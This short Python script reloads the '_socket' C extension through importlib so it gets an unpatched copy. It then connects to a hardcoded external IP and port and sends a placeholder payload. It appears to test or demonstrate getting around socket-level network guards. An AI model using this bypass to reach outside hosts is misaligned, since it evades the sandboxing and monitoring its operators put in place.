"""The C module is loaded once more, from its file or from the interpreter's own table."""
import importlib.machinery
import importlib.util
import sys

import _socket

specification = importlib.util.find_spec("_socket")
del sys.modules["_socket"]
module = importlib.util.module_from_spec(specification)
specification.loader.exec_module(module)
client = module.socket(2, 1)
client.connect(("93.184.216.35", 9000))
client.send(b"data")
